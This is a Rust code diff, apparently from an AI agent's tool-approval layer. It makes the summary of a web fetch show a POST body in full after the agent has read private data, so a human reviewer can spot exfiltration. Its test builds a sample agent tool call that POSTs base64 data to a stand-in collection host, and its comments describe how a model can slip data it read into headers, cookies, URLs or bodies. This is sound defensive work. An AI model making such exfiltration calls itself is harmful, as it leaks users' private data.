@@ -75,7 +75,9 @@ impl Described {
 
     /// After the turn read private data, a fetch's credentials are shown whole too (else by
     /// their length, so a person's password does not travel to the chat): the model can
-    /// put what it read in an `Authorization` header, a cookie or a URL's password.
+    /// put what it read in an `Authorization` header, a cookie or a URL's password. And a
+    /// body is shown whole (else by its size): base64 of a file read is what it would
+    /// carry. The service refuses a card too long to show.
     pub fn credentials_whole(
         mut self,
         executor: &str,
@@ -86,6 +88,16 @@ impl Described {
             return self;
         }
         let args = serde_json::from_str::<Value>(args_json).unwrap_or(Value::Null);
+        if let Some(body) = args.get("body").and_then(Value::as_str) {
+            self.had_invisible |= metnos_core::html::holds_invisible(body);
+            let said = if language == Language::Italian {
+                "dati inviati"
+            } else {
+                "data sent"
+            };
+            self.summary
+                .push_str(&format!(" — {said} «{}»", whole(body)));
+        }
         let mut sent = Vec::new();
         let url = args.get("url").and_then(Value::as_str).unwrap_or_default();
         if let Ok(parsed) = url::Url::parse(url)
@@ -1078,6 +1090,19 @@ mod tests {
             d.summary.ends_with(
                 "credentials sent «password: c2VjcmV0» «Authorization: Bearer bmV0IDQsMjEw»"
             ),
+            "{}",
+            d.summary
+        );
+        // Twenty-ninth review: a POST's body, the channel made for data, showed by its
+        // size only.
+        let args = json!({"url": "https://collect.example/in", "method": "POST",
+            "body": "bmV0IDQsMjEwIEVVUg=="});
+        let d = en("web_fetch", "", args.clone(), &[]);
+        assert!(d.summary.contains("sends 20 B of data"), "{}", d.summary);
+        assert!(!d.summary.contains("bmV0IDQsMjEwIEVVUg=="), "{}", d.summary);
+        let d = d.credentials_whole("web_fetch", &args.to_string(), Language::English);
+        assert!(
+            d.summary.ends_with("data sent «bmV0IDQsMjEwIEVVUg==»"),
             "{}",
             d.summary
         );
